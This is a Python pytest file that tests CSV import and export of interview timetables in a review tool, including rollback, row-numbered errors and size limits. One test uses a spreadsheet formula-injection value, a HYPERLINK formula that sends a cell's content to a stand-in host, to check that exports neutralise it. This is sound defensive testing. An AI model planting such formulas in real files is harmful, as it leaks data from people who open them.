"""Importing a timetable from CSV is all or nothing; a bad row is named by its row number; people from outside the
team and rows for everyone go in and come back out."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from peerdesk.errors import UserError
from peerdesk.services import review, timetable
from peerdesk.services import timetable_csv as tcsv
from peerdesk.store.engine import Store
from tests.helpers.timetable import add_colleague

# The timetable as it really is (#20): people from outside the team, and rows for everyone (no team).
WITH_OUTSIDERS = """day,starts,ends,team,room,stakeholder_group,approach,interviewer,note_taker,attendees,title
1,09:00,09:30,,,,,,,,Opening and introductions
1,09:45,10:30,Team A,Room 1,Foster carers,Appreciative inquiry,Priya Host (host officer),AR,6,
1,12:30,13:15,,,,,,,,Lunch
1,13:30,14:15,Team A,Room 1,Young people,,Alex Reviewer,Dana Observer,4,
"""

GOOD = """day,starts,ends,team,room,stakeholder_group,approach,interviewer,note_taker,attendees,title
1,09:45,10:30,Team A,Room 1,Foster carers,Appreciative inquiry,Sam Okafor,AR,6,
1,09:45,10:30,Team B,Room 2,Social workers,ethnographic,Alex Reviewer,Sam Okafor,8,Front door
1,10:45,11:30,Team A,Room 1,Young people,Solution focused,,,4,
"""


@pytest.fixture
def team_store(store: Store) -> Store:
    add_colleague(store)
    return store


def counts(store: Store) -> tuple[int, int, int, int]:
    tt = timetable.timetable(store)
    return len(tt.slots), len(tt.teams), len(tt.groups), len(tt.interviews)


def test_a_good_file_creates_slots_teams_groups_and_interviews(team_store: Store) -> None:
    result = tcsv.import_text(team_store, GOOD)
    assert result.interviews == 3
    assert counts(team_store) == (2, 2, 3, 3)
    tt = timetable.timetable(team_store)
    first = tt.at(tt.slots[0].id, tt.teams[0].id)
    assert first is not None
    assert (first.group, first.approach, first.interviewer, first.note_taker, first.attendees) == (
        "Foster carers",
        "appreciative",
        "Sam Okafor",
        "Alex Reviewer",
        6,
    )


@pytest.mark.parametrize(
    ("row", "why"),
    [
        ("1,9.99,,Team A,,Carers,,,,,", "not a time"),
        ("1,11:00,,Team A,,,,,,,", "stakeholder group is empty"),
        ("3,11:00,,Team A,,Carers,,,,,", "day must be 1 or 2"),
        ("1,11:00,,Team A,,Carers,interrogation,,,,", "not an approach"),
        ("1,11:00,,,,,,,,,", "team is empty"),  # no team, no group and no title: not a row for everyone either
        ("1,11:00,,Team A,,Carers,,,,lots,", "whole number"),
        ("1,11:00,10:00,Team A,,Carers,,,,,", "ends"),
        ("1,09:45,,Team A,,Carers,,,,,", "already has an interview at 09:45 in row 2"),
        ("1,11:00,,Team A,,Carers,,,,,,,,", "cells but the header"),
    ],
)
def test_a_bad_row_is_refused_by_its_number_and_nothing_is_imported(team_store: Store, row: str, why: str) -> None:
    lines = GOOD.splitlines()
    text = "\n".join([*lines[:3], row, lines[3]]) + "\n"  # the bad row is row 4 of the sheet
    with pytest.raises(UserError, match="Row 4") as caught:
        tcsv.import_text(team_store, text)
    assert why in str(caught.value)
    assert "Nothing was imported" in str(caught.value)
    assert counts(team_store) == (0, 0, 0, 0)


def test_a_row_for_a_cell_already_taken_in_the_review_is_refused(team_store: Store) -> None:
    tcsv.import_text(team_store, GOOD)
    again = GOOD.splitlines()[0] + "\n1,12:00,,Team C,,Partners,,,,,\n1,09:45,,Team B,,Partners,,,,,\n"
    with pytest.raises(UserError, match=r"Row 3 .*Team B already has an interview at 09:45"):
        tcsv.import_text(team_store, again)
    assert counts(team_store) == (2, 2, 3, 3)  # Team C and Partners of row 2 were rolled back too


def test_a_file_without_the_needed_columns_is_refused(team_store: Store) -> None:
    with pytest.raises(UserError, match="needs the columns"):
        tcsv.import_text(team_store, "when,who\n09:45,Team A\n")
    with pytest.raises(UserError, match="empty"):
        tcsv.import_text(team_store, "")
    with pytest.raises(UserError, match="no interviews"):
        tcsv.import_text(team_store, GOOD.splitlines()[0] + "\n\n")


def test_a_file_that_is_not_text_is_refused(team_store: Store, tmp_path: Path) -> None:
    path = tmp_path / "timetable.csv"
    path.write_bytes(b"\x81\x8d\x8f\x90\x9d" * 10)
    with pytest.raises(UserError, match="not text"):
        tcsv.import_file(team_store, path)


def test_export_then_import_into_a_fresh_review_gives_the_same_timetable(
    team_store: Store, tmp_path: Path, passphrase: str
) -> None:
    tcsv.import_text(team_store, GOOD)
    path = tmp_path / "timetable.csv"
    assert tcsv.export_file(team_store, path) == 3
    other = review.create_review(
        tmp_path / "other.peerdesk", passphrase, review.Essentials("Westfold", "", "Alex Reviewer")
    )
    with other:
        add_colleague(other)
        tcsv.import_file(other, path)
        assert tcsv.export_text(other) == tcsv.export_text(team_store)


def test_undoing_an_import_removes_what_it_created_and_redo_brings_it_back(team_store: Store) -> None:
    result = tcsv.import_text(team_store, GOOD)
    timetable.set_deleted(team_store, result.created, True)
    assert counts(team_store) == (0, 0, 0, 0)
    timetable.set_deleted(team_store, result.created, False)
    assert counts(team_store) == (2, 2, 3, 3)


def test_the_demo_s_exported_timetable_imports_again_into_the_same_review_and_changes_nothing(
    demo_store: Store, tmp_path: Path
) -> None:
    path = tmp_path / "timetable.csv"
    exported = tcsv.export_file(demo_store, path)
    before = tcsv.export_text(demo_store)
    result = tcsv.import_file(demo_store, path)
    assert (result.interviews, result.already_there) == (0, exported)
    assert tcsv.export_text(demo_store) == before


def test_the_demo_s_exported_timetable_makes_the_same_timetable_in_a_fresh_review(
    demo_store: Store, tmp_path: Path, passphrase: str
) -> None:
    path = tmp_path / "timetable.csv"
    tcsv.export_file(demo_store, path)
    other = review.create_review(
        tmp_path / "other.peerdesk", passphrase, review.Essentials("Eastmere", "", "Alex Reviewer")
    )
    with other:
        tcsv.import_file(other, path)
        assert tcsv.export_text(other) == tcsv.export_text(demo_store)


def test_a_changed_row_for_a_taken_cell_is_still_refused(team_store: Store) -> None:
    tcsv.import_text(team_store, GOOD)
    rows = list(csv.reader(io.StringIO(tcsv.export_text(team_store))))
    rows[1][rows[0].index("attendees")] = "11"  # the same cell, another interview
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    with pytest.raises(UserError, match=r"Row 2 .*already has an interview"):
        tcsv.import_text(team_store, out.getvalue())


def test_a_csv_may_name_people_outside_the_team_and_rows_for_everyone(store: Store) -> None:
    result = tcsv.import_text(store, WITH_OUTSIDERS)
    assert result.interviews == 2
    table = timetable.timetable(store)
    assert [(s.starts, s.activity) for s in table.slots] == [
        ("09:00", "Opening and introductions"),
        ("09:45", ""),
        ("12:30", "Lunch"),
        ("13:30", ""),
    ]
    first, second = table.interviews
    assert (first.interviewer, first.interviewer_id) == ("Priya Host (host officer)", "")
    assert first.note_taker == "Alex Reviewer" and first.note_taker_id == store.member_id
    assert (second.note_taker, second.note_taker_id) == ("Dana Observer", "")


def test_the_export_writes_them_back_and_reimports_the_same(store: Store, tmp_path: object) -> None:
    tcsv.import_text(store, WITH_OUTSIDERS)
    text = tcsv.export_text(store)
    assert "1,12:30,13:15,,,,,,,0,Lunch" in text
    assert "Priya Host (host officer)" in text and "Dana Observer" in text


def test_a_cell_a_spreadsheet_would_run_is_exported_as_text_and_imported_back_as_it_was(
    team_store: Store, tmp_path: Path, passphrase: str
) -> None:
    """A group or a room named in a colleague's bundle ("=HYPERLINK(…)") must not run when the export is opened."""
    hostile = '=HYPERLINK("http://example.test/?"&A1,"Foster carers")'
    tcsv.import_text(
        team_store, GOOD.replace("Foster carers", hostile.replace('"', '""').join('""')).replace("Room 2", "-2 floor")
    )
    exported = list(csv.reader(io.StringIO(tcsv.export_text(team_store))))
    cells = [cell for row in exported for cell in row]
    assert "'" + hostile in cells and "'-2 floor" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    path = tmp_path / "timetable.csv"
    tcsv.export_file(team_store, path)
    other = review.create_review(
        tmp_path / "other.peerdesk", passphrase, review.Essentials("Westfold", "", "Alex Reviewer")
    )
    with other:
        add_colleague(other)
        tcsv.import_file(other, path)  # read back, the apostrophe goes
        assert {g.name for g in timetable.timetable(other).groups} >= {hostile}
        assert tcsv.export_text(other) == tcsv.export_text(team_store)


def test_a_file_too_big_or_too_wide_to_be_a_timetable_is_refused_before_it_is_read(
    team_store: Store, tmp_path: Path
) -> None:
    huge = tmp_path / "huge.csv"
    with huge.open("wb") as handle:
        handle.truncate(1024**3)  # read whole, it took seconds and a gigabyte and a half
    with pytest.raises(UserError, match="larger than"):
        tcsv.import_file(team_store, huge)
    wide = GOOD.replace("title\n", "title" + ",extra" * 100_000 + "\n", 1)  # 600 kB: each row checked against all
    with pytest.raises(UserError, match="100011 columns"):
        tcsv.import_text(team_store, wide)
    with pytest.raises(UserError, match="Could not read"):
        tcsv.import_file(team_store, tmp_path / ("x" * 300 + ".csv"))
    assert counts(team_store) == (0, 0, 0, 0)


def test_a_row_that_is_not_csv_is_named_by_its_own_number(team_store: Store) -> None:
    lines = GOOD.splitlines()
    field = "Carers " * 20_000  # more than a CSV reader takes in one cell
    text = "\n".join([*lines[:3], f"1,11:00,,Team A,,{field},,,,,", lines[3]]) + "\n"  # row 4
    with pytest.raises(UserError, match=r"Row 4 .*not readable as CSV"):
        tcsv.import_text(team_store, text)
